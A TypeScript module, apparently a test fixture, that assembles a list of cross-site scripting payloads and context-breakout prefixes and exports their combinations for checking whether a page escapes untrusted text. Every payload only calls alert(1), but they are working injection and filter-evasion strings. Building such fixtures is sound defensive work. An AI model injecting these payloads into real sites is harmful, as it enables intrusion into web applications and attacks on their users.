/** Markup that calls `alert` when a page includes it unescaped. */
const scripts = [
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script/x>alert(1)</script>',
    '<script src=data:,alert(1)></script>',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img/src/onerror=alert(1)>',
    '<img src=x onerror="alert(1)"',
    '<IMG SRC=x OnErRoR=alert`1`>',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)//',
    '<svg><script>alert(1)</script>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
  ],
  ...[
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    '<math><mi xlink:href="javascript:alert(1)">x',
    '<body onload=alert(1)>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<iframe src=javascript:alert(1)>',
    '<object data=javascript:alert(1)>',
    '<embed src=javascript:alert(1)>',
  ],
  ...[
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
    '<a autofocus tabindex=1 onfocus=alert(1)>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x',
  ],
  ...[
    '<style>@keyframes x{}</style><p style="animation:x" onanimationstart=alert(1)>',
    '<p style="background:url(javascript:alert(1))">x',
    '<link rel=stylesheet href=javascript:alert(1)>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href=javascript:/><a href=alert(1)>',
    '<form action=javascript:alert(1)><button autofocus>',
    '<a href=javascript:alert(1)>x</a>',
  ],
  ...[
    '<a href="java&#x0a;script:alert(1)">x</a>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<![CDATA[<script>alert(1)</script>]]>',
  ],
  ...[
    '<!--><img src=x onerror=alert(1)>',
    '<x onclick=alert(1) autofocus tabindex=0 onfocus=alert(1)>',
    'javascript:alert(1)',
    '\u003cscript\u003ealert(1)\u003c/script\u003e',
  ],
  ...[
    "';alert(1)//",
    '";alert(1)//',
    '`;alert(1)//',
    "{{constructor.constructor('alert(1)')()}}",
    '$' + '{alert(1)}',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ],
];

/** Prefixes that break out of the HTML context of a text. */
const breakouts = [
  ...[
    (script: string) => script,
    (script: string) => `">${script}`,
    (script: string) => `'>${script}`,
    (script: string) => `</title>${script}`,
  ],
  ...[
    (script: string) => `</textarea>${script}`,
    (script: string) => `</script>${script}`,
    (script: string) => `-->${script}`,
    (script: string) => `]]>${script}`,
  ],
  ...[
    (script: string) => `\\">${script}`,
    (script: string) => `\u2028${script}`,
    (script: string) => `x" autofocus onfocus="alert(1)" y="${script}`,
  ],
];

/** Texts that run a script wherever they are not treated as plain text. */
export const scriptPayloads: readonly string[] = breakouts.flatMap((breakOut) => scripts.map(breakOut));
